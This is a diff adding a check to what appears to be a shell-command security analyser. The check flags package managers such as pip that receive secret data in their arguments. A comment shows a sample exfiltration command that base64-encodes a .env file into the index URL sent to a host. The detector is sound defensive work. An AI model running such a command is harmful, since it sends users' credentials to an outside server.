@@ -273,6 +273,16 @@ def check_package(add: Add, inv: Invocation) -> None:
     if subs is None:
         return
     args = inv.args
+    for f in args:
+        # pip install --index-url "https://$(cat .env | base64)@host/simple": what a package
+        # manager's arguments hold goes to the index or URL they name (a secret variable
+        # authenticating to a private index is not secret *data*: left out).
+        leak = next((s for s in f.taint if s.kind == "secret" and not s.program.startswith("$")),
+                    None)
+        if leak is not None:
+            add("shell.exfiltration", f.span, f"{inv.name} sends secret data in its arguments "
+                "to a package index or URL", f"{leak.describe()} reaches {inv.name}")
+            break
     if name in VERSION_MANAGERS:  # asdf install, rustup toolchain add, uv python install
         check_version_manager(add, inv)
         if name != "uv":
